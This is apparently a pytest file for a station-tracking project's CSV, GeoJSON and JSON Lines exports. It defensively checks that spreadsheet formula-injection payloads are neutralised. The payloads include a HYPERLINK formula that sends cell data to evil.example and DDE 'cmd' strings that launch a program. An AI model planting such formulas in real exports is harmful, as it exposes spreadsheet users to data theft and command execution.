"""CSV, GeoJSON and JSON Lines exports of the examples, each validated against its standard."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import jsonschema
from tests.export.helpers import model_of

from stationwatch.export.csv import escape_cell, stations_csv
from stationwatch.export.geojson import stations_geojson
from stationwatch.export.jsonl import facts_jsonl
from stationwatch.export.rows import STATION_COLUMNS, StationExport, station_exports
from stationwatch.schema import json_schema
from stationwatch.store.core import Store

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

# RFC 7946 subset: what a FeatureCollection of Point features (or null geometry) must be.
POSITION = {"type": "array", "minItems": 2, "maxItems": 3, "items": {"type": "number"}}
GEOJSON_SCHEMA: dict[str, Any] = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object", "required": ["type", "features"],
    "properties": {
        "type": {"const": "FeatureCollection"},
        "features": {"type": "array", "items": {
            "type": "object", "required": ["type", "geometry", "properties"],
            "properties": {
                "type": {"const": "Feature"},
                "id": {"type": ["string", "number"]},
                "properties": {"type": ["object", "null"]},
                "geometry": {"oneOf": [
                    {"type": "null"},
                    {"type": "object", "required": ["type", "coordinates"],
                     "properties": {"type": {"const": "Point"}, "coordinates": POSITION}},
                ]},
            }}},
    },
}


def _row(**changes: Any) -> StationExport:
    values: dict[str, Any] = {
        "key": "PT:Lisbon", "country": "PT", "country_name": "Portugal", "place": "Lisbon",
        "latitude": 38.7, "longitude": -9.1, "operators": ("Qingtian",),
        "first_reported": "2022-11-03", "status": "investigated", "independent_sources": 1,
        "raw_sources": 1, "latest_response": None}
    values.update(changes)
    return StationExport(**values)


def test_formula_payloads_are_defused_in_every_text_cell() -> None:
    rows = [_row(place=p, operators=(p,), latest_response=p) for p in PAYLOADS]
    parsed = list(csv.reader(io.StringIO(stations_csv(rows))))
    assert parsed[0] == list(STATION_COLUMNS)
    for payload, row in zip(PAYLOADS, parsed[1:], strict=True):
        cells = dict(zip(STATION_COLUMNS, row, strict=True))
        for column in ("place", "operators", "latest_response"):
            assert cells[column] == "'" + payload
        assert cells["longitude"] == "-9.1"  # numbers we computed stay numbers


def test_harmless_cells_are_left_alone() -> None:
    assert escape_cell("Buenos Aires") == "Buenos Aires"
    assert escape_cell("米兰") == "米兰"
    assert escape_cell(None) == ""
    assert escape_cell("a=b") == "a=b"


def test_csv_of_the_examples_has_one_row_per_visible_station(example_store: Store) -> None:
    with model_of(example_store, "public") as model:
        rows = station_exports(model)
        text = stations_csv(rows)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert len(parsed) == len(rows) > 0
    assert {r["country"] for r in parsed} >= {"PT", "NL"}
    lisbon = next(r for r in parsed if r["place"] == "Lisbon")
    assert lisbon["status"] == "investigated"
    assert "investigation" in lisbon["latest_response"]
    assert float(lisbon["latitude"]) == 38.7  # public: city precision only


def test_geojson_validates_and_round_trips(example_store: Store) -> None:
    with model_of(example_store, "analyst") as model:
        collection = stations_geojson(station_exports(model))
    jsonschema.validate(collection, GEOJSON_SCHEMA)
    again = json.loads(json.dumps(collection))
    assert again == collection
    lisbon = next(f for f in collection["features"] if f["properties"]["place"] == "Lisbon")
    longitude, latitude = lisbon["geometry"]["coordinates"]
    assert (longitude, latitude) == (-9.13333, 38.71667)  # RFC 7946: longitude first


def test_jsonl_lines_follow_the_fact_schema_with_review_state(example_store: Store) -> None:
    validator = jsonschema.Draft202012Validator(json_schema())
    with model_of(example_store, "analyst") as model:
        lines = list(facts_jsonl(model))
    assert lines
    for line in lines:
        record = json.loads(line)
        validator.validate(record)
        assert record["review"]["state"] == "accepted"
        assert len(record["review"]["source_sha256"]) == 64


def test_public_jsonl_leaves_out_unreviewed_facts(example_store: Store) -> None:
    from stationwatch.store import kb_repo

    with model_of(example_store, "public") as model:
        before = len(list(facts_jsonl(model)))
    with example_store.engine.begin() as conn:
        fact = kb_repo.current_facts(conn)[0]
        extra = fact.with_(date="2001")  # a new statement: the date is part of its id
        doc_id = kb_repo.fact_versions(conn, fact.id)[0].document_id
        kb_repo.save_facts(conn, doc_id, [extra], "stationwatch-test", "1")
    with model_of(example_store, "public") as model:
        assert len(list(facts_jsonl(model))) == before
    with model_of(example_store, "viewer") as model:
        assert len(list(facts_jsonl(model))) == before + 1
